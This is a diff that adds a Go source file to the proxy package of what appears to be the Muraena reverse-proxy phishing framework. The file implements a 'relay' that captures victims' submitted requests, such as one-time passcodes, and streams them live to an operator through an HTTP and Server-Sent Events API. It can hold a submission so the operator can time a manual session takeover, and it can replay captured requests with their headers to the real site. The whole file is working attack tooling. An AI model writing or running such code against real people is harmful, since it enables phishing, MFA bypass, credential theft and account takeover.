@@ -0,0 +1,354 @@
+package proxy
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"net/http"
+	"regexp"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// submission is a victim request captured on one of the relay paths
+type submission struct {
+	ID     string      `json:"id"`
+	Victim string      `json:"victim"`
+	Method string      `json:"method"`
+	URL    string      `json:"url"`
+	Header http.Header `json:"header"`
+	Body   string      `json:"body"`
+	Time   time.Time   `json:"time"`
+	Held   bool        `json:"held"`
+
+	resume chan struct{}
+}
+
+// relay exposes the victim submissions, such as OTPs, to the operator in real time.
+// When holding is enabled, the submissions are not forwarded to the target until resumed,
+// so that the operator can align the timing with a manual session takeover.
+type relay struct {
+	sess *session.Session
+
+	exact   map[string]bool
+	regexps []*regexp.Regexp
+
+	hold    bool
+	timeout time.Duration
+	history int
+
+	mu          sync.Mutex
+	counter     uint64
+	submissions []*submission
+	watchers    map[chan submission]struct{}
+}
+
+// relays is the submission relay shared by all the proxies, nil if disabled
+var relays *relay
+
+// newRelay returns the relay defined in the configuration, nil if disabled
+func newRelay(sess *session.Session) (*relay, error) {
+	config := sess.Config.Relay
+	if !config.Enabled {
+		return nil, nil
+	}
+
+	r := &relay{
+		sess:     sess,
+		exact:    make(map[string]bool),
+		hold:     config.Hold,
+		timeout:  time.Duration(config.Timeout) * time.Second,
+		history:  config.History,
+		watchers: make(map[chan submission]struct{}),
+	}
+
+	for _, p := range config.Paths {
+		if strings.HasPrefix(p, "^") && strings.HasSuffix(p, "$") {
+			re, err := regexp.Compile(p)
+			if err != nil {
+				return nil, fmt.Errorf("invalid relay path %s: %w", p, err)
+			}
+			r.regexps = append(r.regexps, re)
+			continue
+		}
+		r.exact[p] = true
+	}
+
+	return r, nil
+}
+
+// Matches checks if the requests to path are relayed
+func (r *relay) Matches(path string) bool {
+	if r.exact[path] {
+		return true
+	}
+
+	for _, re := range r.regexps {
+		if re.MatchString(path) {
+			return true
+		}
+	}
+
+	return false
+}
+
+// Capture records the request, as it will be sent to the target, and holds it if required
+func (r *relay) Capture(req *http.Request, victim string) {
+	var body []byte
+	if req.Body != nil && req.Body != http.NoBody {
+		var err error
+		if body, err = ioutil.ReadAll(req.Body); err != nil {
+			log.Warning("Relay: error reading the body of %s: %s", req.URL.Path, err)
+		}
+		req.Body.Close()
+		req.Body = ioutil.NopCloser(bytes.NewReader(body))
+	}
+
+	r.mu.Lock()
+	r.counter++
+	s := &submission{
+		ID:     strconv.FormatUint(r.counter, 10),
+		Victim: victim,
+		Method: req.Method,
+		URL:    req.URL.String(),
+		Header: req.Header.Clone(),
+		Body:   string(body),
+		Time:   time.Now().UTC(),
+		Held:   r.hold,
+		resume: make(chan struct{}),
+	}
+
+	r.submissions = append(r.submissions, s)
+	r.trim()
+	r.notify(s)
+	r.mu.Unlock()
+
+	log.Important("[%s] Relay: submission %s to %s", victim, s.ID, req.URL.Path)
+	session.Publish(session.Event{
+		Type:   session.EventSubmission,
+		Victim: victim,
+		Data:   map[string]string{"id": s.ID, "method": s.Method, "url": s.URL, "body": s.Body},
+	})
+
+	if !r.hold {
+		return
+	}
+
+	select {
+	case <-s.resume:
+	case <-req.Context().Done():
+	case <-time.After(r.timeout):
+		log.Info("[%s] Relay: submission %s released after %s", victim, s.ID, r.timeout)
+	}
+
+	r.mu.Lock()
+	if s.Held {
+		s.Held = false
+		close(s.resume)
+		r.notify(s)
+	}
+	r.mu.Unlock()
+}
+
+// trim drops the oldest submissions beyond the history, the caller must hold the lock.
+// The held submissions are kept, so that the operator can still resume them.
+func (r *relay) trim() {
+	excess := len(r.submissions) - r.history
+	if excess <= 0 {
+		return
+	}
+
+	kept := r.submissions[:0]
+	for _, s := range r.submissions {
+		if excess > 0 && !s.Held {
+			excess--
+			continue
+		}
+		kept = append(kept, s)
+	}
+	r.submissions = kept
+}
+
+// Resume releases a held submission towards the target
+func (r *relay) Resume(id string) bool {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+
+	s := r.get(id)
+	if s == nil || !s.Held {
+		return false
+	}
+
+	s.Held = false
+	close(s.resume)
+	r.notify(s)
+
+	return true
+}
+
+// Replay sends a captured submission to the target again
+func (r *relay) Replay(id string) (*http.Response, error) {
+	r.mu.Lock()
+	s := r.get(id)
+	r.mu.Unlock()
+
+	if s == nil {
+		return nil, fmt.Errorf("unknown submission %s", id)
+	}
+
+	req, err := http.NewRequest(s.Method, s.URL, strings.NewReader(s.Body))
+	if err != nil {
+		return nil, err
+	}
+	req.Header = s.Header.Clone()
+
+	return upstreamTransports.Get(r.sess, req.URL.Host).RoundTrip(req)
+}
+
+// Submissions returns a copy of the recorded submissions, oldest first
+func (r *relay) Submissions() []submission {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+
+	list := make([]submission, 0, len(r.submissions))
+	for _, s := range r.submissions {
+		list = append(list, *s)
+	}
+	return list
+}
+
+// Watch returns a channel receiving the new and updated submissions, until the returned function is called
+func (r *relay) Watch() (<-chan submission, func()) {
+	ch := make(chan submission, 16)
+
+	r.mu.Lock()
+	r.watchers[ch] = struct{}{}
+	r.mu.Unlock()
+
+	return ch, func() {
+		r.mu.Lock()
+		delete(r.watchers, ch)
+		r.mu.Unlock()
+	}
+}
+
+// get returns the submission with the given ID, nil if none. The lock must be held.
+func (r *relay) get(id string) *submission {
+	for _, s := range r.submissions {
+		if s.ID == id {
+			return s
+		}
+	}
+	return nil
+}
+
+// notify sends the submission to the watchers, skipping the slow ones. The lock must be held.
+func (r *relay) notify(s *submission) {
+	for ch := range r.watchers {
+		select {
+		case ch <- *s:
+		default:
+		}
+	}
+}
+
+// ServeHTTP implements the relay API:
+//
+//	GET  /submissions              lists the recorded submissions
+//	GET  /events                   streams the new and updated submissions as Server-Sent Events
+//	POST /submissions/<id>/resume  releases a held submission
+//	POST /submissions/<id>/replay  sends a submission to the target again, returning its response
+func (r *relay) ServeHTTP(w http.ResponseWriter, req *http.Request) {
+	path := strings.Trim(req.URL.Path, "/")
+	parts := strings.Split(path, "/")
+
+	switch {
+	case path == "submissions":
+		if allowMethods(w, req, http.MethodGet) {
+			writeJSON(w, r.Submissions())
+		}
+
+	case path == "events":
+		if allowMethods(w, req, http.MethodGet) {
+			r.serveEvents(w, req)
+		}
+
+	case len(parts) == 3 && parts[0] == "submissions" && parts[2] == "resume":
+		if !allowMethods(w, req, http.MethodPost) {
+			return
+		}
+		if !r.Resume(parts[1]) {
+			http.Error(w, "submission not held", http.StatusNotFound)
+			return
+		}
+		writeJSON(w, map[string]string{"resumed": parts[1]})
+
+	case len(parts) == 3 && parts[0] == "submissions" && parts[2] == "replay":
+		if !allowMethods(w, req, http.MethodPost) {
+			return
+		}
+
+		resp, err := r.Replay(parts[1])
+		if err != nil {
+			http.Error(w, err.Error(), http.StatusBadGateway)
+			return
+		}
+		defer resp.Body.Close()
+
+		for k, v := range resp.Header {
+			w.Header()[k] = v
+		}
+		w.WriteHeader(resp.StatusCode)
+		_, _ = io.Copy(w, resp.Body)
+
+	default:
+		http.NotFound(w, req)
+	}
+}
+
+// serveEvents streams the submissions to the operator
+func (r *relay) serveEvents(w http.ResponseWriter, req *http.Request) {
+	flusher, ok := w.(http.Flusher)
+	if !ok {
+		http.Error(w, "streaming not supported", http.StatusInternalServerError)
+		return
+	}
+
+	events, stop := r.Watch()
+	defer stop()
+
+	w.Header().Set("Content-Type", "text/event-stream")
+	w.Header().Set("Cache-Control", "no-cache")
+	flusher.Flush()
+
+	for {
+		select {
+		case <-req.Context().Done():
+			return
+		case s := <-events:
+			data, err := json.Marshal(s)
+			if err != nil {
+				continue
+			}
+			fmt.Fprintf(w, "event: submission\ndata: %s\n\n", data)
+			flusher.Flush()
+		}
+	}
+}
+
+// serveRelay starts the relay API
+func serveRelay(sess *session.Session) {
+	config := sess.Config.Relay
+	if config.Listen == "" {
+		return
+	}
+
+	serveAdmin(sess, "Relay", config.Listen, config.Token, relays)
+}